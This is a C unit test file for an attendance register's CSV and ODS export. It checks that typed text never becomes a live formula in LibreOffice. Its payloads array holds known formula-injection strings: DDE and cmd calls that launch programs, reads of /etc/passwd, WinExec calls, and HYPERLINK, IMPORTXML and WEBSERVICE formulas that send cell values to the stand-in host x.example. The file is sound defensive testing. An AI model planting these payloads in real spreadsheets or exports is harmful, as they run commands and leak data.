/*
 * LibreOffice opens what goes out and gives back the same cells; and nothing that somebody typed
 * acts as a formula there (S6).
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>

#include "app/domain/day.h"
#include "app/exchange/formula.h"
#include "app/exchange/outfile.h"
#include "app/exchange/workbook.h"
#include "firmware/base/utf8.h"
#include "tests/support/ledger.h"
#include "tests/support/sheets.h"

/* OWASP, ASVS 1.2.10 and what goes around in reports of CSV injection. */
static const char *const payloads[] = {
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|'/C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!D2",
    "=10+20+cmd|' /C calc'!A0",
    "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe'!''",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=DDE(\"soffice\",\"/etc/passwd\",\"A1\")",
    "='file:///etc/passwd'#$passwd.A1",
    "=HYPERLINK(\"http://x.example/?v=\"&A1,\"open\")",
    "=HYPERLINK(\"file:///etc/passwd\";\"open\")",
    "=IMPORTXML(CONCAT(\"http://x.example/?v=\",A1),\"//a\")",
    "=IMPORTFEED(\"http://x.example/?v=1\")",
    "=IMPORTHTML(\"http://x.example\",\"table\",1)",
    "=IMPORTRANGE(\"http://x.example\",\"A1\")",
    "=IMPORTDATA(\"http://x.example\")",
    "=IMAGE(\"http://x.example/?v=\"&A1)",
    "=WEBSERVICE(\"http://x.example/?v=\"&A1)",
    "=COM.MICROSOFT.WEBSERVICE(\"http://x.example\")",
    "=FILTERXML(\"<a/>\",\"//a\")",
    "=CALL(\"kernel32\",\"WinExec\",\"JJCJ\")",
    "=REGISTER.ID(\"kernel32\",\"WinExec\")",
    "=EXEC(\"calc\")",
    "=INFO(\"directory\")",
    "=INDIRECT(\"A1\")",
    "=NOW()",
    "=A1",
    "=$A$1",
    "=A1:A9",
    "=1/0",
    "==1",
    "=+1",
    "=-1",
    "=(1)",
    "=TRUE",
    "=\"a\"&\"b\"",
    "={1;2}",
    "{=1+1}",
    " =1+1",
    "    +1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \t=1+1",
    "\xC2\xA0=1+1",
    "\xEF\xBB\xBF=1+1",
    "'=1+1",
    "''=1+1",
    " '=1+1",
    "\"=1+1\"",
    "\";=1+1;\"",
    "a;=1+1",
    "a,=1+1",
    "a\t=1+1",
    "a\n=1+1",
    "\xEF\xBC\x9D"
    "1+1",
    "\xEF\xBC\x8B"
    "1+1",
    "\xEF\xBC\x8D"
    "1+1",
    "\xEF\xBC\xA0SUM(1)",
    "sep=;",
    "%0A-3+3+cmd|' /C calc'!D2",
    "_x003D_1+1",
};
#define PAYLOADS ((int)(sizeof payloads / sizeof payloads[0]))

/* As each profile is opened: separator, quotes, UTF-8, from line 1, language, dates recognized. */
static const struct look {
    enum csv_profile profile;
    const char *name, *filter;
} looks[] = {
    {CSV_PROFILE_EXCEL, "excel", "CSV:59,34,76,1,,2060,false,true"},
    {CSV_PROFILE_STRICT, "strict", "CSV:44,34,76,1,,1033,false,true"},
};

struct desk {
    char folder[64];
    struct ledger *ledger;
};

static struct desk desk;
static bool is_possible;

/* --- what is in the register --- */

#define HOUR_MS INT64_C(3600000)

/* UTC milliseconds and what came of them, in the order of arrivals. */
static const struct {
    int day;
    int64_t arrived_ms, left_ms; /* 0: still here */
    bool is_doubtful;
    const char *arrived, *left, *length; /* as the clock on the wall had it, as ODF says it */
    const char *hours;                   /* as a number to calculate with */
} plain[] = {
    /* A night that lost an hour, one that won it, and the hour there was twice. */
    {20260328, 1774731600000, 1774760400000, false, "2026-03-28T22:00:00", "2026-03-29T07:00:00",
     "PT08H00M00S", "8"},
    {20261024, 1792872000000, 1792908000000, false, "2026-10-24T22:00:00", "2026-10-25T07:00:00",
     "PT10H00M00S", "10"},
    {20261024, 1792888200000, 1792891800000, false, "2026-10-25T02:30:00", "2026-10-25T02:30:00",
     "PT01H00M00S", "1"},
    {LEDGER_DAY, LEDGER_MS - 2, LEDGER_MS + 9015000 - 2, false, "2026-11-23T14:02:10",
     "2026-11-23T16:32:25", "PT02H30M15S", "2.5"},
    {LEDGER_DAY, LEDGER_MS - 1, 0, true, "2026-11-23T14:02:10", "", "", ""},
};
#define PLAIN ((int)(sizeof plain / sizeof plain[0]))
#define YEARS (PAYLOADS + 2) /* Zoé came as staff, too */
#define TASKS (PAYLOADS + 1) /* and to no shift */

enum { VISITS, HOURS, TASKS_SHEET, PEOPLE, MONTHS, ABOUT, SHEETS };

static void fill_plainly(struct ledger *ledger)
{
    const struct person zoe = {.number = "1001", .first_name = "Zoé", .last_name = "de Ridder"};
    struct fact_id id = ledger_person(ledger, &zoe);
    for (int i = 0; i < PLAIN; i++) {
        struct visit visit = {.day = plain[i].day,
                              .arrived_ms = plain[i].arrived_ms,
                              .left_ms = plain[i].left_ms,
                              .closes_ms = plain[i].arrived_ms + 24 * HOUR_MS,
                              .how_in = PRESENCE_TAP,
                              .how_out = plain[i].left_ms ? PRESENCE_TAP : PRESENCE_OPEN,
                              .is_doubtful_in = plain[i].is_doubtful};
        struct stint stint = {.visit = ledger_visit(ledger, id, &visit),
                              .day = plain[i].day,
                              .is_staff = i == 0,
                              .from_ms = plain[i].arrived_ms,
                              .seconds = (plain[i].left_ms - plain[i].arrived_ms) / 1000};
        if (plain[i].left_ms)
            ledger_stint(ledger, id, &stint);
    }
    ledger_newcomer(ledger, id, plain[0].arrived_ms, (struct fact_id){0, 0});
}

/* Cut between characters to where the field ends, as long as it is one of ours. */
static void cut_into(char *out_text, size_t size, const char *text)
{
    snprintf(out_text, size, "%.*s", (int)utf8_cut(text, size - 1), text);
}

/* Every text column of every table says the payload, one row for each. */
static void fill_with_payloads(struct ledger *ledger)
{
    for (int i = 0; i < PAYLOADS; i++) {
        struct person person = {.number = ""};
        struct visit visit = {.day = LEDGER_DAY,
                              .arrived_ms = LEDGER_MS + i,
                              .left_ms = LEDGER_MS + 3600000,
                              .how_in = PRESENCE_TAP,
                              .how_out = PRESENCE_TAP};
        struct stint stint = {.day = LEDGER_DAY, .from_ms = LEDGER_MS, .seconds = 60};
        for (int field = 0; field < person_field_count; field++)
            cut_into(person_text(&person, field), person_fields[field].size, payloads[i]);
        struct fact_id id = ledger_person(ledger, &person);
        visit.organisation = stint.organisation = ledger_organisation(ledger, payloads[i]);
        stint.visit = ledger_visit(ledger, id, &visit);
        stint.of = (struct shift_id){ledger_occasion(ledger, OCCASION_SHIFT, payloads[i]), 1};
        cut_into(stint.mission, sizeof stint.mission, payloads[i]);
        ledger_stint(ledger, id, &stint);
        ledger_newcomer(ledger, id, LEDGER_MS + i, id);
    }
}

/* --- files --- */

static void file_name(const struct look *look, enum register_table table, const char *ending,
                      char out_name[64])
{
    const char *name = register_name(table);
    snprintf(out_name, 64, "%s-%.*s.%s", look->name, (int)(strlen(name) - 4), name, ending);
}

static void write_tables(const struct look *look)
{
    struct register_source source = ledger_source(desk.ledger);
    for (int table = 0; table < REGISTER_TABLE_COUNT; table++) {
        char name[64];
        struct outfile *file;
        int64_t rows;
        file_name(look, (enum register_table)table, "csv", name);
        assert_int_equal(outfile_create(desk.folder, name, &file, NULL), RC_OK);
        struct sink sink = outfile_sink(file);
        assert_int_equal(
            register_write((enum register_table)table, look->profile, &source, &sink, &rows),
            RC_OK);
        assert_int_equal(outfile_commit(file, NULL), RC_OK);
    }
}

/* What would happen without defusing: the same cells, quoted as they should be. */
static void write_control(const struct look *look)
{
    char path[128];
    snprintf(path, sizeof path, "%s/%s-control.csv", desk.folder, look->name);
    FILE *file = fopen(path, "w");
    assert_non_null(file);
    for (int i = 0; i < PAYLOADS; i++) {
        fputc('"', file);
        for (const char *at = payloads[i]; *at; at++)
            fprintf(file, *at == '"' ? "\"\"" : "%c", *at);
        fputs("\"\r\n", file);
    }
    assert_int_equal(fclose(file), 0);
}

static void open_tables(const struct look *look)
{
    static char names[REGISTER_TABLE_COUNT + 1][64];
    const char *list[REGISTER_TABLE_COUNT + 1];
    write_tables(look);
    write_control(look);
    for (int table = 0; table < REGISTER_TABLE_COUNT; table++)
        file_name(look, (enum register_table)table, "csv", names[table]);
    snprintf(names[REGISTER_TABLE_COUNT], 64, "%s-control.csv", look->name);
    for (int i = 0; i <= REGISTER_TABLE_COUNT; i++)
        list[i] = names[i];
    sheets_convert(desk.folder, look->filter, list, REGISTER_TABLE_COUNT + 1);
}

static struct sheets *sheets_of(const struct look *look, enum register_table table)
{
    char name[64];
    file_name(look, table, "fods", name);
    return sheets_open(desk.folder, name);
}

static void open_workbook(void)
{
    static const char *const name = WORKBOOK_NAME;
    char path[128];
    struct register_source source = ledger_source(desk.ledger);
    struct workbook_about about = {.venue = "=1+1",
                                   .period = "+1",
                                   .time_zone = "Europe/Brussels",
                                   .made_ms = LEDGER_MS,
                                   .language = LANGUAGE_EN};
    int64_t rows;
    snprintf(path, sizeof path, "%s/" WORKBOOK_NAME, desk.folder);
    assert_int_equal(workbook_write(path, desk.folder, &source, &about, &rows, NULL), RC_OK);
    assert_int_equal(rows, PAYLOADS + PLAIN + YEARS + TASKS + PAYLOADS + 1);
    sheets_convert(desk.folder, NULL, &name, 1);
}

/* An office starts slowly: all tests look at what it was given at the beginning. */
static int set_up(void **state)
{
    (void)state;
    is_possible = sheets_are_possible();
    if (!is_possible)
        return 0;
    strcpy(desk.folder, "/tmp/perron-office-XXXXXX");
    if (!mkdtemp(desk.folder))
        return -1;
    desk.ledger = ledger_open();
    fill_plainly(desk.ledger);
    fill_with_payloads(desk.ledger);
    for (size_t i = 0; i < sizeof looks / sizeof looks[0]; i++)
        open_tables(&looks[i]);
    open_workbook();
    return 0;
}

static int tear_down(void **state)
{
    char command[128];
    (void)state;
    if (!is_possible)
        return 0;
    ledger_close(desk.ledger);
    snprintf(command, sizeof command, "rm -rf --one-file-system '%s'", desk.folder);
    return system(command);
}

/* --- formulas --- */

/* Line ends are the office's: CR LF and CR come back as LF. Empty lines at an end go. */
static void settle_lines(const char *text, char *out_text, size_t size)
{
    size_t used = 0;
    for (; *text && used + 1 < size; text++)
        if (*text != '\r')
            out_text[used++] = *text;
        else if (text[1] != '\n')
            out_text[used++] = '\n';
    out_text[used] = 0;
}

/* A buddy is told by a whole name, without blanks around it. */
static void whole_name(const char *typed, char *out_name, size_t size)
{
    snprintf(out_name, size, "%s %s", typed + strspn(typed, " "), typed);
    for (size_t end = strlen(out_name); end > 0 && out_name[end - 1] == ' '; end--)
        out_name[end - 1] = 0;
}

/* Is it a payload, whole or cut to its field, or two of them as a first and a last name? */
static bool is_typed(const char *shown)
{
    char text[600], typed[256], name[600];
    settle_lines(shown, text, sizeof text);
    for (int i = 0; i < PAYLOADS; i++) {
        settle_lines(payloads[i], typed, sizeof typed);
        whole_name(typed, name, sizeof name);
        if (strcmp(text, typed) == 0 || strcmp(text, name) == 0 ||
            (text[0] && strncmp(text, typed, strlen(text)) == 0))
            return true;
    }
    return false;
}

/* The columns whose text somebody typed. */
static bool is_typed_column(const char *heading)
{
    static const char *const ours[] = {"id",
                                       "person",
                                       "day",
                                       "as",
                                       "occasion",
                                       "end",
                                       "clock",
                                       "arrived_at",
                                       "left_at",
                                       "duration",
                                       "hours",
                                       "how_in",
                                       "how_out",
                                       "guests",
                                       "children",
                                       "badges",
                                       "began_at",
                                       "begins_at",
                                       "last_step",
                                       "last_step_how",
                                       "Day",
                                       "As",
                                       "Occasion",
                                       "Arrived",
                                       "Left",
                                       "Duration",
                                       "Clock",
                                       "Guests",
                                       "Year",
                                       "Total",
                                       "January",
                                       "February",
                                       "March",
                                       "April",
                                       "May",
                                       "June",
                                       "July",
                                       "August",
                                       "September",
                                       "October",
                                       "November",
                                       "December",
                                       "Children",
                                       "Badges",
                                       "Arrival known by",
                                       "Departure known by",
                                       "buddy_state",
                                       "last_visit_at"};
    for (size_t i = 0; i < sizeof ours / sizeof ours[0]; i++)
        if (strcmp(heading, ours[i]) == 0)
            return false;
    return true;
}

/* The column of that heading in the sheet; it must be there. */
static int column_of(const struct sheets *sheets, int sheet, const char *heading)
{
    for (int column = 0; sheets_cell(sheets, sheet, 0, column)->text[0]; column++)
        if (strcmp(sheets_cell(sheets, sheet, 0, column)->text, heading) == 0)
            return column;
    fail_msg("%s has no column %s", sheets_name(sheets, sheet), heading);
    return -1;
}

/* Every cell that somebody typed; how many. `sums`: formulas of ours that the sheet has. */
static int judge_sheet(const struct sheets *sheets, int sheet, const char *first_name,
                       bool is_defused, int sums)
{
    int judged = 0, names = column_of(sheets, sheet, first_name);
    int end = sheets_rows(sheets, sheet) - (sums > 0); /* the foot is ours */
    assert_int_equal(sheets_formulas(sheets, sheet), sums);
    for (int column = 0; sheets_cell(sheets, sheet, 0, column)->text[0]; column++) {
        const char *heading = sheets_cell(sheets, sheet, 0, column)->text;
        if (!is_typed_column(heading))
            continue;
        for (int row = 1; row < end; row++) {
            const char *text = sheets_cell(sheets, sheet, row, column)->text;
            const char *name = sheets_cell(sheets, sheet, row, names)->text;
            if (strcmp(name, "Zoé") == 0 || strcmp(name, "No shift") == 0)
                continue;
            if (!is_typed(is_defused ? formula_restored(text) : text))
                fail_msg("%s in row %d came back as '%s'", heading, row, text);
            judged++;
        }
    }
    return judged;
}

/* --- tests --- */

static void no_payload_in_any_table_becomes_a_formula(void **state)
{
    int judged = 0;
    (void)state;
    if (!is_possible)
        skip();
    for (size_t i = 0; i < sizeof looks / sizeof looks[0]; i++) {
        char name[64];
        for (int table = 0; table < REGISTER_TABLE_COUNT; table++) {
            struct sheets *sheets = sheets_of(&looks[i], (enum register_table)table);
            judged += judge_sheet(sheets, 0, "first_name", true, 0);
            sheets_close(sheets);
        }
        snprintf(name, sizeof name, "%s-control.fods", looks[i].name);
        struct sheets *control = sheets_open(desk.folder, name);
        if (sheets_formulas(control, 0) < PAYLOADS / 3)
            fail_msg("the control has only %d formulas", sheets_formulas(control, 0));
        sheets_close(control);
    }
    printf("%d payloads, %d cells, no formula\n", PAYLOADS, judged);
    assert_int_equal(judged, 2 * (4 + 6 + 18 + 5) * PAYLOADS);
}

static void no_payload_in_the_workbook_becomes_a_formula(void **state)
{
    int judged = 0;
    (void)state;
    if (!is_possible)
        skip();
    struct sheets *sheets = sheets_open(desk.folder, "attendance.fods");
    assert_int_equal(sheets_count(sheets), SHEETS);
    judged += judge_sheet(sheets, VISITS, "First name", false, 0);
    judged += judge_sheet(sheets, HOURS, "First name", false, YEARS + 13);
    judged += judge_sheet(sheets, TASKS_SHEET, "Task", false, TASKS + 13);
    judged += judge_sheet(sheets, PEOPLE, "First name", false, 0);
    printf("%d payloads, %d cells of the workbook, no formula\n", PAYLOADS, judged);
    assert_true(judged >= (4 + 3 + 1 + 17) * PAYLOADS);
    /* The control: sums are formulas. */
    assert_true(sheets_formulas(sheets, MONTHS) > 5);
    assert_int_equal(sheets_formulas(sheets, ABOUT), 0);
    assert_string_equal(sheets_cell(sheets, ABOUT, 0, 1)->text, "=1+1");
    sheets_close(sheets);
}

static void expect_cell(const struct sheets *sheets, int sheet, int row, const char *heading,
                        const char *type, const char *value)
{
    const struct sheets_cell *cell =
        sheets_cell(sheets, sheet, row, column_of(sheets, sheet, heading));
    const char *found = strcmp(type, "string") == 0 ? cell->text : cell->value;
    if (!value[0] ? cell->text[0] != 0 : strcmp(cell->type, type) || strcmp(found, value))
        fail_msg("%s in row %d is %s '%s' (%s), not %s '%s'", heading, row, cell->type, cell->value,
                 cell->text, type, value);
}

static void expect_visits(const struct sheets *sheets)
{
    assert_int_equal(sheets_rows(sheets, 0), PLAIN + PAYLOADS + 1);
    for (int i = 0; i < PLAIN; i++) {
        int row = i + 1;
        char day[16];
        snprintf(day, sizeof day, "%04d-%02d-%02d", plain[i].day / 10000, plain[i].day / 100 % 100,
                 plain[i].day % 100);
        expect_cell(sheets, 0, row, "number", "float", "1001");
        expect_cell(sheets, 0, row, "last_name", "string", "de Ridder");
        expect_cell(sheets, 0, row, "day", "date", day);
        expect_cell(sheets, 0, row, "duration", "time", plain[i].length);
        expect_cell(sheets, 0, row, "hours", "float", plain[i].hours);
        expect_cell(sheets, 0, row, "clock", "string",
                    plain[i].is_doubtful ? "doubtful" : "trusted");
    }
}

static void a_table_for_people_gives_back_the_clock_on_the_wall(void **state)
{
    (void)state;
    if (!is_possible)
        skip();
    struct sheets *sheets = sheets_of(&looks[0], REGISTER_VISITS);
    expect_visits(sheets);
    for (int i = 0; i < PLAIN; i++) {
        expect_cell(sheets, 0, i + 1, "arrived_at", "date", plain[i].arrived);
        expect_cell(sheets, 0, i + 1, "left_at", "date", plain[i].left);
    }
    sheets_close(sheets);
}

static void a_table_for_programs_gives_back_utc(void **state)
{
    (void)state;
    if (!is_possible)
        skip();
    struct sheets *sheets = sheets_of(&looks[1], REGISTER_VISITS);
    expect_visits(sheets);
    for (int i = 0; i < PLAIN; i++) {
        char utc[32];
        day_format_utc(plain[i].arrived_ms, utc, sizeof utc);
        const struct sheets_cell *cell =
            sheets_cell(sheets, 0, i + 1, column_of(sheets, 0, "arrived_at"));
        assert_string_equal(cell->text, utc);
    }
    sheets_close(sheets);
}

static void the_workbook_has_real_dates_durations_and_sums(void **state)
{
    (void)state;
    if (!is_possible)
        skip();
    struct sheets *sheets = sheets_open(desk.folder, "attendance.fods");
    for (int i = 0; i < PLAIN; i++) {
        expect_cell(sheets, VISITS, i + 1, "Member number", "string", "1001");
        expect_cell(sheets, VISITS, i + 1, "Arrived", "date", plain[i].arrived);
        expect_cell(sheets, VISITS, i + 1, "Left", "date", plain[i].left);
        expect_cell(sheets, VISITS, i + 1, "Duration", "time", plain[i].length);
        expect_cell(sheets, VISITS, i + 1, "Clock", "string",
                    plain[i].is_doubtful ? "doubtful" : "");
    }
    /* March to November, and the sums of all. */
    assert_int_equal(sheets_rows(sheets, MONTHS), 1 + 9 + 1);
    expect_cell(sheets, MONTHS, 1, "Month", "date", "2026-03-01");
    expect_cell(sheets, MONTHS, 1, "Staff", "time", "PT08H00M00S");
    expect_cell(sheets, MONTHS, 2, "Together", "time", "PT00H00M00S");
    expect_cell(sheets, MONTHS, 8, "Volunteers", "time", "PT11H00M00S");
    expect_cell(sheets, MONTHS, 9, "Volunteers", "time",
                "PT03H38M15S"); /* and a minute by each payload */
    expect_cell(sheets, MONTHS, 10, "Together", "time", "PT22H38M15S");
    assert_true(sheets_cell(sheets, MONTHS, 10, 3)->is_formula);
    sheets_close(sheets);
}

/* --- hours by person and month --- */

struct hours {
    int64_t zoe[2], all[2][12]; /* as volunteer, as staff */
};

static int64_t seconds_of(const struct sheets *sheets, int sheet, int row, int column)
{
    const struct sheets_cell *cell = sheets_cell(sheets, sheet, row, column);
    int hours, minutes, seconds, used = 0;
    if (!cell->value[0])
        return 0;
    if (sscanf(cell->value, "PT%dH%dM%dS%n", &hours, &minutes, &seconds, &used) != 3 ||
        cell->value[used])
        fail_msg("'%s' is no duration in whole seconds", cell->value);
    return hours * INT64_C(3600) + minutes * 60 + seconds;
}

static struct hours hours_of_the_rows(void)
{
    struct sheets *sheets = sheets_of(&looks[0], REGISTER_HOURS);
    struct hours hours = {.zoe = {0}};
    int duration = column_of(sheets, 0, "duration"), name = column_of(sheets, 0, "first_name");
    int as = column_of(sheets, 0, "as"), day = column_of(sheets, 0, "day"), month;
    for (int row = 1; row < sheets_rows(sheets, 0); row++) {
        bool is_staff = strcmp(sheets_cell(sheets, 0, row, as)->text, "staff") == 0;
        int64_t seconds = seconds_of(sheets, 0, row, duration);
        assert_int_equal(sscanf(sheets_cell(sheets, 0, row, day)->value, "2026-%d", &month), 1);
        hours.all[is_staff][month - 1] += seconds;
        if (strcmp(sheets_cell(sheets, 0, row, name)->text, "Zoé") == 0)
            hours.zoe[is_staff] += seconds;
    }
    sheets_close(sheets);
    return hours;
}

static void the_hours_of_the_workbook_are_those_of_the_table(void **state)
{
    (void)state;
    if (!is_possible)
        skip();
    struct hours rows = hours_of_the_rows(), sums = {.zoe = {0}};
    struct sheets *sheets = sheets_open(desk.folder, "attendance.fods");
    int first = column_of(sheets, HOURS, "January"), total = column_of(sheets, HOURS, "Total");
    int as = column_of(sheets, HOURS, "As"), name = column_of(sheets, HOURS, "First name");
    int foot = sheets_rows(sheets, HOURS) - 1;
    assert_int_equal(foot, 1 + YEARS);
    assert_int_equal(total, first + 12);
    for (int row = 1; row < foot; row++) {
        bool is_staff = strcmp(sheets_cell(sheets, HOURS, row, as)->text, "staff") == 0;
        bool is_zoe = strcmp(sheets_cell(sheets, HOURS, row, name)->text, "Zoé") == 0;
        int64_t together = 0;
        expect_cell(sheets, HOURS, row, "Year", "float", "2026");
        for (int month = 0; month < 12; month++) {
            int64_t seconds = seconds_of(sheets, HOURS, row, first + month);
            sums.all[is_staff][month] += seconds;
            together += seconds;
        }
        sums.zoe[is_staff] += is_zoe ? together : 0;
        assert_int_equal(seconds_of(sheets, HOURS, row, total), together);
    }
    assert_memory_equal(&sums, &rows, sizeof rows);
    for (int month = 0; month < 12; month++) {
        int64_t seconds = rows.all[0][month] + rows.all[1][month];
        assert_int_equal(seconds_of(sheets, HOURS, foot, first + month), seconds);
        assert_int_equal(seconds_of(sheets, TASKS_SHEET, 1 + TASKS,
                                    column_of(sheets, TASKS_SHEET, "January") + month),
                         seconds);
    }
    assert_true(sheets_cell(sheets, HOURS, foot, total)->is_formula);
    assert_string_equal(sheets_cell(sheets, HOURS, 2, first + 2)->text, "8:00");
    sheets_close(sheets);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(no_payload_in_any_table_becomes_a_formula),
        cmocka_unit_test(no_payload_in_the_workbook_becomes_a_formula),
        cmocka_unit_test(a_table_for_people_gives_back_the_clock_on_the_wall),
        cmocka_unit_test(a_table_for_programs_gives_back_utc),
        cmocka_unit_test(the_workbook_has_real_dates_durations_and_sums),
        cmocka_unit_test(the_hours_of_the_workbook_are_those_of_the_table),
    };
    return cmocka_run_group_tests(tests, set_up, tear_down);
}
